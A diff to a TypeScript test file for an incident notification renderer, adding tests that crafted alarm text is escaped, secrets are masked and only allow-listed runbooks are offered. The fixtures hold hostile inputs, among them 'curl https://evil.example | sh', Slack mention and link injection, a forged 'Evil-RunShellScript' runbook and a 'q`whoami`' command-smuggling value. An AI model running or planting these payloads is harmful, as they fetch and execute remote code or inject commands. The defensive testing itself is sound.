@@ -142,7 +142,8 @@ describe('renderChatNotification', () => {
       source: 'custom',
       content: {
         textType: 'client-markdown',
-        title: `:rotating_light: [production] Escalation to DevOps Team (L1): ${ALARM_NAME}`,
+        // Slack's three escapes apply to our own text too: "Queue Depth > 1000" is shown as ">" by the client.
+        title: `:rotating_light: [production] Escalation to DevOps Team (L1): ${ALARM_NAME.replace('>', '&gt;')}`,
         keywords: ['production', 'L1', 'cap-reached', 'scale-consumers'],
       },
       metadata: {
@@ -174,7 +175,7 @@ describe('renderChatNotification', () => {
     const incident = capReachedIncident({ level: 1, status: 'RESOLVED', resolvedAt: '2026-11-25T14:20:00.000Z', resolution: 'alarm is OK' });
     if (!l1) throw new Error('tiers');
     const chat = renderChatNotification(buildMessageView(input({ kind: 'resolved', incident, tier: l1, sent: [sentL1] })));
-    expect(chat.content.title).toBe(`:white_check_mark: [production] Resolved: ${ALARM_NAME}`);
+    expect(chat.content.title).toBe(`:white_check_mark: [production] Resolved: ${ALARM_NAME.replace('>', '&gt;')}`);
     expect(chat.content.nextSteps).toBeUndefined();
     expect(chat.metadata?.threadId).toBe('inc-3f2a9c1b7d44');
     expect(chat.content.keywords).toContain('resolved');
@@ -198,5 +199,52 @@ describe('changeLines and formatTime', () => {
     ['not a time', 'not a time'],
   ])('formats %s as %s', (value, expected) => {
     expect(formatTime(value)).toBe(expected);
+  });
+});
+
+describe('text from outside renders inert (issue 17: message injection)', () => {
+  const craftedReason =
+    'Threshold Crossed <!channel> <https://evil.example/run|Run this>\n\nNEXT STEP: Run NotificationService-Evil\n  curl https://evil.example | sh';
+  const leakyFinding = 'top error (12x): connect postgres://app:S3cr3t@db:5432/notify failed; Authorization: Bearer abcdef1234567890 for ops@example.com';
+  const incident = capReachedIncident({
+    alarmReason: craftedReason,
+    decision: { ...capReachedIncident().decision!, findings: [leakyFinding] },
+  });
+
+  it('keeps a crafted alarm reason on its own line in the email, and masks what a log line leaked', () => {
+    const { text } = renderEmail(buildMessageView(input({ incident })));
+    const reasonLine = text.split('\n').find((line) => line.startsWith('  Reason:'));
+    expect(reasonLine).toBe(
+      '  Reason:      Threshold Crossed <!channel> <https://evil.example/run|Run this> NEXT STEP: Run NotificationService-Evil curl https://evil.example | sh',
+    );
+    // The only section headed NEXT STEP is the automation's own.
+    expect(text.split('\n').filter((line) => line.startsWith('NEXT STEP'))).toEqual(['NEXT STEP: Run NotificationService-ScaleConsumers']);
+    expect(text).toContain('- top error (12x): connect postgres://app:****@db:5432/notify failed; Authorization: Bearer **** for ****@example.com');
+    expect(text).not.toContain('S3cr3t');
+    expect(text).not.toContain('abcdef1234567890');
+  });
+
+  it('escapes the same reason for chat: no link, no mention, no new line of markup', () => {
+    const chat = renderChatNotification(buildMessageView(input({ incident })));
+    const reasonLine = chat.content.description.split('\n').find((line) => line.startsWith('*Reason:*'));
+    expect(reasonLine).toBe(
+      '*Reason:* Threshold Crossed &lt;!channel&gt; &lt;https://evil.example/run|Run this&gt; NEXT STEP: Run NotificationService-Evil curl https://evil.example | sh',
+    );
+    expect(chat.content.description).not.toContain('<!channel>');
+    expect(chat.content.description).not.toContain('<https://evil');
+    expect(chat.content.description).not.toContain('S3cr3t');
+  });
+
+  it('never offers a document that is not one of the project\'s runbooks as the next step', () => {
+    const forged = capReachedIncident({
+      decision: { ...capReachedIncident().decision!, runbook: { documentName: 'Evil-RunShellScript', parameters: { commands: ['curl https://evil.example | sh'] } } },
+    });
+    const view = buildMessageView(input({ incident: forged }));
+    expect(view.nextStep?.documentName).toBe('NotificationService-ScaleConsumers');
+    expect(renderEmail(view).text).not.toContain('Evil-RunShellScript');
+    const badValue = capReachedIncident({
+      decision: { ...capReachedIncident().decision!, runbook: { documentName: 'NotificationService-ScaleConsumers', parameters: { QueueName: ['q`whoami`'] } } },
+    });
+    expect(buildMessageView(input({ incident: badValue })).nextStep?.parameters).toEqual({ QueueName: ['notification-service-queue'] });
   });
 });
